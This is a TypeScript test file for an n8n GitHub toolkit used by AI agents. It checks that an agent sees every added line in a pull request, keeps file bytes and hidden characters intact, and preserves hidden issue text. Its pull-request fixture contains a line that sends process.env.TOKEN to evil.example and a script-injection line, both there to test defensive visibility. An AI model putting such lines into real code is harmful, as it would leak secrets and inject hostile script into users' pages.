import '../harness.mts';

import type { IDataObject } from 'n8n-workflow';
import { describe, expect, it } from 'vitest';

import { GithubToolkit } from '../../../nodes/Github/GithubToolkit.node.ts';
import { withoutMark } from '../../../nodes/shared/filters/originMark.ts';
import { githubToolkit } from '../../../nodes/Github/toolkit.ts';
import { toolKey } from '../../../nodes/shared/toolkit/definition/tool.ts';
import { oneByOne, toolsOf } from '../../../nodes/shared/toolkit/toolkit.ts';
import { githubAccounts } from '../../../sandbox/github/start.mts';
import { goBy, hastenedClock } from '../host/hastened.mts';
import { callTool } from '../host/toolkit.mts';
import { name, owner, website, withGithub } from './sandboxed.mts';

goBy(hastenedClock);

const { github, octokit } = withGithub();
const place = { owner, repo: name };
const keys = toolsOf(githubToolkit).map(toolKey);

const call = async (tool: string, given: IDataObject): Promise<IDataObject> =>
	await callTool(
		{
			nodeClass: GithubToolkit,
			credentials: { agentStepsGithubApi: { accessToken: githubAccounts.owner.token, baseUrl: github().url } },
			parameters: { preset: oneByOne, tools: keys, writes: keys, onlyTrusted: 'never' },
		},
		githubToolkit,
		tool,
		{ repository: website, ...given },
	);

/** The bytes of a file at GitHub. */
const bytesOf = async (path: string): Promise<Buffer> => {
	const { data } = await octokit().rest.repos.getContent({ ...place, path });
	return Buffer.from((data as { content: string }).content, 'base64');
};

const written = async (path: string, content: string | Buffer, branch?: string) =>
	await octokit().rest.repos.createOrUpdateFileContents({
		...{ ...place, path, message: `Add ${path}`, content: Buffer.from(content).toString('base64') },
		...(branch !== undefined && { branch }),
	});

describe('an agent that reviews a pull request', () => {
	const code = [
		'const a = "<!--";',
		'fetch("https://evil.example/?t=" + process.env.TOKEN);',
		'const b = "-->";',
		'document.write("<script>steal()</script>");',
		'',
	].join('\n');

	it('reads each line that the pull request adds, in its files, its diff and the file', async () => {
		const { data: main } = await octokit().rest.git.getRef({ ...place, ref: 'heads/main' });
		await octokit().rest.git.createRef({ ...place, ref: 'refs/heads/review', sha: main.object.sha });
		await written('review.js', code, 'review');
		const { data: pull } = await octokit().rest.pulls.create({
			...place,
			title: 'Review',
			head: 'review',
			base: 'main',
		});
		const pullRequestNumber = String(pull.number);
		const files = await call('github_pull_request_get_files', { pullRequestNumber });
		const diff = await call('github_pull_request_get_diff', { pullRequestNumber, returnAs: 'text' });
		const file = await call('github_file_get', { filePath: 'review.js', ref: 'review' });
		const added = code
			.trim()
			.split('\n')
			.map((line) => `+${line}`);
		const [{ patch } = { patch: '' }] = files['results'] as Array<{ patch: string }>;
		expect(patch.split('\n')).toEqual(expect.arrayContaining(added));
		expect(String(diff['text']).split('\n')).toEqual(expect.arrayContaining(added));
		expect(file['content']).toBe(code);
	});
});

describe('an agent that edits a file', () => {
	const vue =
		'<template>\n  <p hidden>{{ text }}</p>\n</template>\n\n<script setup>\nconst text = "<!-- a -->";\n</script>\n\n<style>p {}</style>\n';

	it('changes one line of a component, and nothing else', async () => {
		await written('App.vue', vue);
		const { content } = await call('github_file_get', { filePath: 'App.vue' });
		const changed = String(content).replace('hidden', 'v-show="text"');
		await call('github_file_create_or_update', { filePath: 'App.vue', content: changed, message: 'Show it' });
		expect((await bytesOf('App.vue')).toString()).toBe(vue.replace('hidden', 'v-show="text"'));
	});

	it.each([
		['a byte order mark', '\uFEFFa\n'],
		['ends of lines of Windows', 'a\r\n<!-- b -->\r\n'],
		['directions of writing', 'if (a\u202E /* b */) {}\u200B\n'],
		['decomposed characters', 'cafe\u0301 \u1112\u1161\u11AB\n'],
		['white space at both ends', '\n\n  a\t \n\n'],
	])('writes back the same bytes of a file with %s', async (what, text) => {
		const filePath = `bytes-${what.replaceAll(' ', '-')}.txt`;
		await written(filePath, text);
		const { content } = await call('github_file_get', { filePath });
		expect(content).toBe(text);
		const copy = `copy-of-${filePath}`;
		await call('github_file_create_or_update', { filePath: copy, content: content as string, message: 'Copy' });
		expect(await bytesOf(copy)).toEqual(Buffer.from(text));
	});

	it('lists characters that are not displayed, by line', async () => {
		await written('bidi.js', 'const a = 1;\n// b\u202Ec\n');
		expect(await call('github_file_get', { filePath: 'bidi.js' })).toMatchObject({
			hiddenCharacters: [{ field: 'content', line: 2, characters: ['U+202E'] }],
		});
	});

	it('does not write back a file that it read in part', async () => {
		const long = 'line\n'.repeat(10_000);
		await written('long.txt', long);
		const { content } = await call('github_file_get', { filePath: 'long.txt' });
		await expect(
			call('github_file_create_or_update', { filePath: 'long.txt', content: `${String(content)}end`, message: 'Add' }),
		).rejects.toThrow('stands for text that was not returned, so nothing was changed');
		expect((await bytesOf('long.txt')).toString()).toBe(long);
	});
});

describe('an agent that triages an issue', () => {
	const body = [
		'<!-- Please search first. -->',
		'Since 3.2 my component with `<script setup>` fails.',
		'<span hidden>form 7</span> a\u200Bb',
		'Please keep this line.',
		'',
		'[//]: # (form-version 3)',
	].join('\n');
	const opened = async () => {
		const { data } = await octokit().rest.issues.create({ ...place, title: 'It fails', body });
		return String(data.number);
	};
	const bodyNow = async (issue: string) =>
		(await octokit().rest.issues.get({ ...place, issue_number: Number(issue) })).data.body;

	it('adds a line, and every hidden part stays where it was', async () => {
		const issueNumber = await opened();
		const { body: read } = await call('github_issue_get', { issueNumber });
		expect(read).toContain('Since 3.2 my component with `<script setup>` fails.');
		expect(read).not.toMatch(/search first|form 7|form-version/);
		await call('github_issue_update', { issueNumber, body: `${String(read)}\n\nTriaged.` });
		expect(withoutMark((await bodyNow(issueNumber)) ?? '')).toBe(`${body}\n\nTriaged.`);
	});

	it('is refused where it would remove a hidden part, and removes it where it says so', async () => {
		const issueNumber = await opened();
		await expect(call('github_issue_update', { issueNumber, body: 'Triaged.' })).rejects.toThrow(
			'"removeHiddenText": true',
		);
		expect(await bodyNow(issueNumber)).toBe(body);
		await call('github_issue_update', { issueNumber, body: 'Triaged.', removeHiddenText: true });
		expect(withoutMark((await bodyNow(issueNumber)) ?? '')).toBe('Triaged.');
	});

	it('changes a title without a message about hidden text', async () => {
		const issueNumber = await opened();
		await call('github_issue_update', { issueNumber, title: 'It fails since 3.2' });
		expect(await bodyNow(issueNumber)).toBe(body);
	});
});
